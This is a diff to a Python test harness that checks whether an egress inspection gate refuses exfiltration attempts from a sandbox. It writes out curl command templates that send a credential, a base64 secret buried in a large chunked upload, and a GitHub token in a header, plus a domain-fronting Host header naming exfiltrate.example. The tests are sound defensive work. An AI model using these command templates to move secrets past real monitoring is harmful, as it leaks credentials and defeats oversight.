@@ -382,6 +382,7 @@ class Inspected:
     curl: str
     status: int  # the refusal the gate must answer
     secret: Callable[[Verification], str] = lambda target: ""
+    upload: bool = False  # curl sends its standard input chunked: FILLER bytes, then the secret on a line
 
 
 def _github_token() -> str:
@@ -405,7 +406,7 @@ INSPECTED_ATTACKS = (
               "-H 'Content-Type: application/json' -d \"{{\\\"note\\\": \\\"$S\\\"}}\" {url}", 403, _credential),
     Inspected("the credential in base64, 300 KB into a chunked upload", "refused (DLP)", INSPECTED,
               "/verify/upload", "-T - -H 'Transfer-Encoding: chunked' {url}", 403,
-              lambda target: _base64(target.credential.secret)),
+              lambda target: _base64(target.credential.secret), upload=True),
     Inspected("a GitHub token (ghp_...) in a request header inside TLS", "refused (DLP)", INSPECTED,
               "/verify/github", '-H "Authorization: token $S" {url}', 403, lambda target: _github_token()),
     Inspected("a Host header naming exfiltrate.example inside the tunnel (domain fronting)", "refused (421)",
@@ -419,11 +420,11 @@ CONTROLS = tuple(Inspected(f"a clean GET inside TLS to {host} (the control)", "r
 
 def _curl(target: Verification, request: Inspected, secret: str = "") -> tuple[int | None, str]:
     """Send ``request`` with ``secret`` from the bottle: (the final response status or None, its X-Deny-Reason,
-    or curl's last words when no answer came). The attacker
-    does not care whose certificate answers (``-k``): the attack is on what passes, not on trust."""
+    or curl's last words when no answer came). The attacker does not care whose certificate answers (``-k``):
+    the attack is on what passes, not on trust."""
     command = (f"curl -k -sS --suppress-connect-headers --max-time 20 -o /dev/null -D - "
                f"{request.curl.format(url=f'https://{request.host}:{TLS_PORT}{request.path}')}")
-    if request.path == "/verify/upload":
+    if request.upload:
         command = (f"{{ head -c {FILLER} /dev/zero | tr '\\0' a; printf '\\n%s\\n' \"$S\"; }} | {command}")
     _, output = in_bottle(target.run, f"{{ read -r S; {command}; }} 2>&1", secret)
     heads = [head for head in output.split("\r\n\r\n") if head.startswith("HTTP/")]
@@ -457,8 +458,10 @@ def inspection_attacks(target: Verification) -> list[Outcome]:
         status, reason = _curl(target, request, secret)
         got = _arrived(target.https[request.host], request.path)
         shown = f"HTTP {status}{f' ({reason})' if reason else ''}" if status else reason
-        if got or (secret and secret in reason):
+        if got:
             actual, blocked = f"the stand-in got it ({shown})", False
+        elif secret and secret in reason:
+            actual, blocked = "the refusal quotes the secret", False
         elif not control_ok:
             actual, blocked = f"inconclusive: the control did not arrive either ({shown})", False
         else:
